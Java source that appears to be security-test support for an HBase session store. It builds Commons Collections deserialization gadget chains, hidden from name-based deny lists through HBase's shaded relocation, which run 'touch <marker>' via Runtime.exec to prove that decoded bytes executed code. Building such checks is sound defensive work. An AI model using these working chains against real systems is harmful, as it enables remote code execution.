package io.hbasesessions.store;

import io.hbasesessions.store.codec.ForgedKryo;
import java.io.IOException;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.HashMap;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.function.Function;
import java.util.function.Supplier;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.Transformer;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.comparators.TransformingComparator;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.functors.ChainedTransformer;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.functors.ConstantTransformer;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.functors.InvokerTransformer;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.keyvalue.TiedMapEntry;
import org.apache.hbase.thirdparty.org.apache.commons.collections4.map.LazyMap;

/**
 * Deserialization gadget chains built only from classes every artifact of this project carries: the Commons
 * Collections inside HBase's shaded client, relocated (4.4 under {@code org.apache.hbase.thirdparty}, 3.2.2
 * under {@code org.apache.hadoop.hbase.shaded}), where a deny list by the libraries' own names does not see
 * them. Each value, when a decoder rebuilds it, runs {@code touch <marker>} and waits for it to end, so a marker file
 * that exists after the decode (or after the HTTP request that decoded it) means code of the bytes ran. No
 * class name in the bytes is on the deny list: {@code Runtime} is reached through {@code Class.forName}.
 * Nothing runs while a chain is built: it is armed once the value around it is complete.
 */
public final class RelocatedGadgets {

    /** A chain, and how a forger writes it. */
    public enum Chain {
        PRIORITY_QUEUE_CC4(RelocatedGadgets::priorityQueue),
        HASH_MAP_KEY_CC4(RelocatedGadgets::hashMapKey),
        PRIORITY_QUEUE_CC3(RelocatedGadgets::commonsCollections3PriorityQueue);

        private final Function<Path, Object> build;

        Chain(Function<Path, Object> build) {
            this.build = build;
        }

        /** The Kryo bytes of the chain that touches {@code marker}, as someone who can write the table writes them. */
        public byte[] forged(Path marker) {
            return this == PRIORITY_QUEUE_CC3
                    ? writtenWithUnsafeCommonsCollections3(() -> ForgedKryo.encode(build.apply(marker)))
                    : ForgedKryo.encode(build.apply(marker));
        }
    }

    /** The relocated Commons Collections 3.2.2's switch that lets its InvokerTransformer be serialized at all. */
    private static final String CC3_UNSAFE_SERIALIZATION =
            "org.apache.hadoop.hbase.shaded.org.apache.commons.collections.enableUnsafeSerialization";

    private RelocatedGadgets() {
    }

    /**
     * A {@code PriorityQueue} of two numbers ordered by a {@code TransformingComparator} (Commons Collections 4):
     * rebuilding the queue compares them, which runs the transformer chain.
     */
    @SuppressWarnings("unchecked")
    public static Object priorityQueue(Path marker) {
        ChainedTransformer<Object> chain = new ChainedTransformer<>(new ConstantTransformer<>(0));
        PriorityQueue<Object> queue = new PriorityQueue<>(2, new TransformingComparator<>(chain));
        queue.add(1);
        queue.add(2);
        arm(chain, "iTransformers", touching(marker));
        return queue;
    }

    /**
     * A {@code HashMap} whose key is a {@code TiedMapEntry} over a {@code LazyMap} (Commons Collections 4):
     * rebuilding the map hashes the key, which asks the lazy map for its value, which runs the chain.
     */
    @SuppressWarnings("unchecked")
    public static Object hashMapKey(Path marker) {
        ChainedTransformer<Object> chain = new ChainedTransformer<>(new ConstantTransformer<>(0));
        Map<Object, Object> lazy = LazyMap.lazyMap(new HashMap<>(), chain);
        Map<Object, Object> map = new HashMap<>();
        map.put(new TiedMapEntry<>(lazy, "key"), "value");
        lazy.clear();
        arm(chain, "iTransformers", touching(marker));
        return map;
    }

    /**
     * The queue of {@link #priorityQueue} from the relocated Commons Collections 3.2.2. Its InvokerTransformer
     * has a {@code readObject} of its own that refuses to run unless a system property allows it, so on a node
     * without that property the chain stops there: after the gadget's own code ran.
     */
    public static Object commonsCollections3PriorityQueue(Path marker) {
        var chain = new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.functors.ChainedTransformer(
                new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.Transformer[] {
                    new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.functors.ConstantTransformer(0)});
        Comparator<?> comparator = new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.comparators
                .TransformingComparator(chain);
        @SuppressWarnings("unchecked")
        PriorityQueue<Object> queue = new PriorityQueue<>(2, (Comparator<Object>) comparator);
        queue.add(1);
        queue.add(2);
        Object[][] steps = steps(marker);
        var transformers = new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.Transformer[steps.length + 1];
        transformers[0] = new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.functors.ConstantTransformer(
                Class.class);
        for (int i = 0; i < steps.length; i++) {
            transformers[i + 1] = new org.apache.hadoop.hbase.shaded.org.apache.commons.collections.functors
                    .InvokerTransformer((String) steps[i][0], (Class<?>[]) steps[i][1], (Object[]) steps[i][2]);
        }
        arm(chain, "iTransformers", transformers);
        return queue;
    }

    /** Runs {@code write} with the relocated Commons Collections 3.2.2 letting its InvokerTransformer be written. */
    private static byte[] writtenWithUnsafeCommonsCollections3(Supplier<byte[]> write) {
        System.setProperty(CC3_UNSAFE_SERIALIZATION, "true");
        try {
            return write.get();
        } finally {
            System.clearProperty(CC3_UNSAFE_SERIALIZATION);
        }
    }

    /** A directory for marker files, created if needed; a marker in it that exists means a chain ran. */
    public static Path markerIn(Path directory, String name) {
        try {
            Files.createDirectories(directory);
            Path marker = directory.resolve(name).toAbsolutePath();
            Files.deleteIfExists(marker);
            return marker;
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** {@code Class.forName("java.lang.Runtime").getRuntime().exec("touch " + marker)}, then its end, as transformers. */
    @SuppressWarnings({"unchecked", "rawtypes"})
    private static Transformer<Object, Object>[] touching(Path marker) {
        Object[][] steps = steps(marker);
        Transformer<Object, Object>[] transformers = new Transformer[steps.length + 1];
        transformers[0] = new ConstantTransformer<>(Class.class);
        for (int i = 0; i < steps.length; i++) {
            transformers[i + 1] = new InvokerTransformer<>((String) steps[i][0], (Class<?>[]) steps[i][1],
                    (Object[]) steps[i][2]);
        }
        return transformers;
    }

    /** Method name, parameter types and arguments of each call the chain makes on what the previous one returned. */
    private static Object[][] steps(Path marker) {
        if (marker.toString().chars().anyMatch(Character::isWhitespace)) {
            throw new IllegalArgumentException("Runtime.exec splits its command at white space: " + marker);
        }
        return new Object[][] {
            {"getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"forName", new Class<?>[] {String.class}}},
            {"invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[] {"java.lang.Runtime"}}},
            {"getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class<?>[0]}},
            {"invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}},
            {"exec", new Class<?>[] {String.class}, new Object[] {"touch " + marker}},
            // Waits for the command: its output ends when it exits (Process.waitFor is reached only through the
            // JDK's private ProcessImpl, which reflection from outside java.base may not call).
            {"inputReader", new Class<?>[0], new Object[0]},
            {"readLine", new Class<?>[0], new Object[0]}};
    }

    private static void arm(Object holder, String fieldName, Object value) {
        try {
            Field field = holder.getClass().getDeclaredField(fieldName);
            field.setAccessible(true);
            field.set(holder, value);
        } catch (ReflectiveOperationException e) {
            throw new IllegalStateException("cannot arm " + holder.getClass().getName() + "." + fieldName, e);
        }
    }
}
